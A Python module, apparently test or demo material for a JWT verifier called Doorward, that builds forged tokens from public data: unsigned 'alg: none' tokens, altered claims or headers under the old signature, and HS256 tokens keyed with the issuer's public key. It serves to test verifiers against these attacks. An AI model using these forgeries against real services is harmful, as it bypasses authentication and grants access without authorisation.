"""Forged tokens for the tour, made by hand from what is public: a token and the issuer's JWKS. No code of Doorward.

Each is an attack that has opened somebody's door: see RFC 8725 section 2.
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any, Final

__all__ = [
    "with_claim",
    "with_header",
    "with_hmac_of_jwk",
    "with_hmac_of_pem",
    "without_signature",
]

Jwk = Mapping[str, str]
_SPKI_P256: Final = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d030107034200")
"""What stands before the point in a SubjectPublicKeyInfo for P-256 (RFC 5480)."""


def without_signature(token: str, algorithm: str = "none") -> str:
    """The token as nobody has signed it (RFC 7519 section 6)."""
    header, claims, _ = _parts(token)
    return f"{_encode({**header, 'alg': algorithm})}.{_encode(claims)}."


def with_claim(token: str, **changed: object) -> str:
    """Other claims under the old signature."""
    _, claims, signature = _parts(token)
    return f"{token.partition('.')[0]}.{_encode({**claims, **changed})}.{signature}"


def with_header(token: str, **changed: object) -> str:
    """Another header under the old signature."""
    header, claims, signature = _parts(token)
    return f"{_encode({**header, **changed})}.{_encode(claims)}.{signature}"


def with_hmac_of_pem(token: str, jwk: Jwk) -> str:
    """HS256 with the text of the public key as the secret: a verifier that lets the token choose checks just that."""
    point = b"\x04" + _decode(jwk["x"]) + _decode(jwk["y"])
    encoded = base64.encodebytes(_SPKI_P256 + point).decode().replace("\n", "")
    lines = [encoded[at : at + 64] for at in range(0, len(encoded), 64)]
    pem = "\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""])
    return _with_hmac(token, pem.encode())


def with_hmac_of_jwk(token: str, jwk: Jwk) -> str:
    """The same with the key as the JWKS has it."""
    return _with_hmac(token, json.dumps(jwk, separators=(",", ":")).encode())


def _with_hmac(token: str, secret: bytes) -> str:
    header, claims, _ = _parts(token)
    signed = f"{_encode({**header, 'alg': 'HS256'})}.{_encode(claims)}"
    return f"{signed}.{_text(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def _parts(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:  # Any: JSON
    header, claims, signature = token.split(".")
    return json.loads(_decode(header)), json.loads(_decode(claims)), signature


def _decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _encode(value: object) -> str:
    return _text(json.dumps(value, separators=(",", ":")).encode())


def _text(octets: bytes) -> str:
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()
